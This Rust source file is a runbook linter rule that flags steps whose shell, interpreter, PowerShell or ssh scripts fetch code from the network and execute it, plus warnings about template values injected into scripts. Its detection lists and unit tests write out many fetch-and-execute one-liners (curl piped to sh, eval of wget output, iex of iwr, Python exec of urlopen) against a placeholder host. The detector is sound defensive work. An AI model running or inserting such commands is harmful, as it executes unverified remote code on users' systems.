//! Programs that carry out what the network sends, or what somebody else wrote.
//!
//! The rule is meant to be understood, not to be complete. It reads the scripts on a command line: `-c` of a shell, `-c`
//! and `-e` of an interpreter, and the standard input of either where it has no script. It warns where a script fetches
//! something (`curl`, `wget` …) and hands it to a shell or an interpreter: by a pipe, as `<(…)` or `$(…)`, by `eval` or
//! `source`; and where an interpreter's script both fetches and evaluates. What is said to another machine by `ssh` is such
//! a script too. What is fetched into a file and run later is not seen.

use super::script::{Command, Pipeline, Word, read};
use crate::runbook::diagnostic::Diagnostic;
use crate::runbook::node::{Kind, Node};

/// Carry out the text that they are given.
const SHELLS: [&str; 7] = ["sh", "bash", "dash", "ash", "ksh", "zsh", "fish"];

/// The same, for text in a language of their own.
const INTERPRETERS: [&str; 6] = ["python", "python3", "perl", "ruby", "node", "php"];

/// Shells of another kind, with words of their own.
const POWERSHELLS: [&str; 2] = ["pwsh", "powershell"];

/// How they fetch, and how they carry out a text; in small letters.
const POWERSHELL_FETCHING: [&str; 8] =
    ["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring", "downloaddata", "curl", "wget"];
const POWERSHELL_EVALUATING: [&str; 3] = ["iex", "invoke-expression", "scriptblock]::create"];

/// Has a shell of another machine carry out its words.
const REMOTE: &str = "ssh";

/// Print what they fetch.
const FETCHERS: [&str; 5] = ["curl", "wget", "fetch", "http", "https"];

/// Carry out their words, or the file that they name.
const EVALUATORS: [&str; 3] = ["eval", "source", "."];

/// How the scripts of interpreters fetch.
const FETCHING: [&str; 12] = [
    "urllib",
    "urlopen",
    "requests.",
    "http.client",
    "LWP::",
    "HTTP::Tiny",
    "Net::HTTP",
    "open-uri",
    "URI.open",
    "fetch(",
    "http.get(",
    "https.get(",
];

/// How they carry out a text.
const EVALUATING: [&str; 8] =
    ["exec(", "eval(", "eval ", "system(", "popen(", "subprocess", "child_process", "instance_eval"];

/// Scripts in scripts are followed so far.
const DEPTH: usize = 8;

/// Warns of what is wrong with the scripts of a step that runs a program.
pub(in crate::runbook) fn check(with: &Node, problems: &mut Vec<Diagnostic>) {
    let Some(Node { kind: Kind::Array(items), .. }) = with.get("argv") else { return };
    let argv: Vec<&str> = items.iter().map(|item| item.as_text().unwrap_or_default()).collect();
    let command = Command::of(&argv);
    let Some((program, arguments)) = command.program() else { return };
    if program == REMOTE && is_dangerous(&command, false, DEPTH) {
        let said = arguments.iter().position(|word| any_dangerous(&read(&word.text), DEPTH));
        let at = said.unwrap_or(arguments.len().saturating_sub(1));
        problems.push(carried_out(program, &items[argv.len() - arguments.len() + at]));
    }
    if ![&SHELLS[..], &INTERPRETERS, &POWERSHELLS].iter().any(|known| known.contains(&program)) {
        return;
    }
    let stdin = with.get("stdin").filter(|_| takes_input(program, arguments));
    let stands = option(program, arguments).map(|at| &items[argv.len() - arguments.len() + at]);
    for node in [stands, stdin].into_iter().flatten() {
        let Some(text) = node.as_text() else { continue };
        if carries_out_the_network(program, text, DEPTH) {
            problems.push(carried_out(program, node));
        }
        if text.contains("{{") {
            let message = format!("a value is written into a script of `{program}`, which may take it for a command");
            let help = "names in an account are chosen by attackers: hand it over as an argument behind the script, as in \
                        `argv = [\"sh\", \"-c\", 'echo \"$1\"', \"sh\", \"{{inputs.x}}\"]`";
            problems.push(Diagnostic::warning("R027", &node.span, message).help(help));
        }
    }
}

fn carried_out(program: &str, script: &Node) -> Diagnostic {
    let message = format!("`{program}` carries out what the network sends");
    let help = "fetch a file whose digest you know, and run that; or keep the script beside the runbook";
    Diagnostic::warning("R026", &script.span, message).help(help)
}

/// Whether a script of this program carries out what it fetches.
fn carries_out_the_network(program: &str, script: &str, depth: usize) -> bool {
    let Some(depth) = depth.checked_sub(1) else { return false };
    let has = |script: &str, signs: &[&str]| signs.iter().any(|sign| script.contains(sign));
    if INTERPRETERS.contains(&program) {
        return has(script, &FETCHING) && has(script, &EVALUATING);
    }
    if POWERSHELLS.contains(&program) {
        let script = script.to_lowercase();
        return has(&script, &POWERSHELL_FETCHING) && has(&script, &POWERSHELL_EVALUATING);
    }
    any_dangerous(&read(script), depth)
}

fn any_dangerous(script: &[Pipeline], depth: usize) -> bool {
    script.iter().any(|pipeline| {
        let mut fetched = false;
        pipeline.iter().any(|command| {
            let is_dangerous = is_dangerous(command, fetched, depth);
            fetched |= fetches(command);
            is_dangerous
        })
    })
}

/// Whether a command carries out what was fetched; `fed` where that comes through a pipe.
fn is_dangerous(command: &Command, fed: bool, depth: usize) -> bool {
    let Some((program, arguments)) = command.program() else { return false };
    let fetched = |word: &Word| word.given.iter().flatten().any(fetches);
    let carried_out = if command.given_program().is_some_and(fetched) {
        true
    } else if EVALUATORS.contains(&program) {
        arguments.iter().any(fetched)
    } else if program == REMOTE {
        // Which of its words are options and which the host hangs on the option.
        let said: Vec<&str> = arguments.iter().map(|word| word.text.as_str()).collect();
        (0..said.len()).any(|from| carries_out_the_network(program, &said[from..].join(" "), depth))
    } else if POWERSHELLS.contains(&program) {
        let script = option(program, arguments).map(|at| arguments[at].text.as_str());
        script.is_some_and(|script| carries_out_the_network(program, script, depth))
    } else if SHELLS.contains(&program) || INTERPRETERS.contains(&program) {
        let at = option(program, arguments).or_else(|| arguments.iter().position(|word| !word.text.starts_with('-')));
        let script = option(program, arguments).map(|at| arguments[at].text.as_str());
        // The words that `xargs` hands on are the script where there is none, or where they are written into it.
        let is_made = fed && command.takes_words() && script.map_or(has_own(arguments), |script| script.contains("{}"));
        is_made
            || (fed && takes_input(program, arguments))
            || at.is_some_and(|at| fetched(&arguments[at]))
            || script.is_some_and(|script| carries_out_the_network(program, script, depth))
    } else {
        false
    };
    carried_out || command.words.iter().any(|word| any_dangerous(&word.given, depth))
}

/// Whether something that was fetched stands in what it prints.
fn fetches(command: &Command) -> bool {
    command.program().is_some_and(|(program, _)| FETCHERS.contains(&program))
        || command.words.iter().flat_map(|word| &word.given).flatten().any(fetches)
}

/// Which of its arguments is a script: the one behind `-c`, also as in `bash -lc`, or behind `-e`.
fn option(program: &str, arguments: &[Word]) -> Option<usize> {
    let is_option = |word: &Word| match word.text.strip_prefix('-') {
        Some(flags) if POWERSHELLS.contains(&program) => matches!(flags.to_lowercase().as_str(), "c" | "command"),
        Some(flags) if SHELLS.contains(&program) => !flags.starts_with('-') && flags.ends_with('c'),
        Some(flags) => matches!(flags, "c" | "e" | "E" | "r"),
        None => false,
    };
    arguments.iter().position(is_option).map(|at| at + 1).filter(|at| *at < arguments.len())
}

/// Whether it carries out what it reads: it has no script, neither on the line nor in a file. What a script of its own
/// reads is data.
fn takes_input(program: &str, arguments: &[Word]) -> bool {
    let file = arguments.iter().find(|word| !word.text.starts_with('-') || word.text == "-");
    let is_input = file.is_none_or(|word| matches!(word.text.as_str(), "-" | "/dev/stdin"));
    let reads_on = SHELLS.contains(&program) && arguments.iter().any(|word| word.text == "-s");
    option(program, arguments).is_none() && (reads_on || (is_input && !has_own(arguments)))
}

/// Whether it is told that what it carries out is its own: a module, or a script behind `-c`.
fn has_own(arguments: &[Word]) -> bool {
    arguments.iter().any(|word| word.text == "-m" || word.text.starts_with("-c"))
}

#[cfg(test)]
mod tests {
    use super::{DEPTH, carries_out_the_network};

    #[test]
    fn what_is_fetched_and_carried_out_is_seen_however_it_is_written() {
        for script in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- https://x.example | sudo -E bash -s -- --yes",
            "cd /tmp && curl https://x.example 2>/dev/null |\n  bash",
            "curl https://x.example \\\n  | sh",
            "bash <(curl -s https://x.example)",
            "sh -c \"$(curl -fsSL https://x.example)\"",
            "eval `wget -qO- https://x.example`",
            "source <(curl https://x.example)",
            ". <(curl https://x.example)",
            "curl https://x.example | tar xzO | python3 -",
            "bash -c 'curl https://x.example | sh'",
            "if true; then curl https://x.example | /bin/sh; fi",
            "echo \"$(curl https://x.example | sh)\"",
            "cat <(curl https://x.example) | perl",
            "$(curl https://x.example)",
            "sudo `wget -qO- https://x.example` --now",
            "curl https://x.example | busybox sh",
            "timeout 5 curl https://x.example | nohup timeout -k 1 5m bash",
            "curl https://x.example | xargs -0 sh -c",
            "curl https://x.example | xargs -I {} sh -c '{}'",
            "ssh host 'curl https://x.example | sh'",
            "ssh -t root@host curl https://x.example \\| sh",
            "pwsh -c 'iex (iwr https://x.example)'",
        ] {
            assert!(carries_out_the_network("bash", script, DEPTH), "{script}");
        }
        for script in [
            "import urllib.request as u; exec(u.urlopen('https://x.example').read())",
            "import requests, subprocess; subprocess.run(requests.get('https://x.example').text, shell=True)",
        ] {
            assert!(carries_out_the_network("python3", script, DEPTH), "{script}");
        }
    }

    #[test]
    fn data_is_no_program() {
        for script in [
            "curl -s https://x.example | jq -r .state",
            "curl -s https://x.example | python3 -m json.tool",
            "curl -s https://x.example | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
            "curl -s https://x.example | sh parse.sh",
            "curl -s https://x.example || sh recover.sh",
            "curl -s https://x.example; sh next.sh",
            "echo 'curl https://x.example | sh'",
            "echo \"curl https://x.example | sh\"",
            "# curl https://x.example | sh",
            "state=$(curl -s https://x.example); echo \"$state\"",
            "sh next.sh \"$(curl -s https://x.example)\"",
            "curl -s https://x.example | xargs -n1 sh -c 'echo \"$1\"' sh",
            "curl -s https://x.example | ssh host 'cat > list'",
            "ssh host uptime",
            "pwsh -c 'iwr https://x.example | ConvertFrom-Json'",
            "timeout 5 curl -s https://x.example",
            "echo '",
            "$(((((((((((((((((((((((((((((((((((((((((((((((((((((((((",
            "",
        ] {
            assert!(!carries_out_the_network("bash", script, DEPTH), "{script}");
        }
        assert!(!carries_out_the_network("python3", "import urllib.request; print(1)", DEPTH));
    }
}
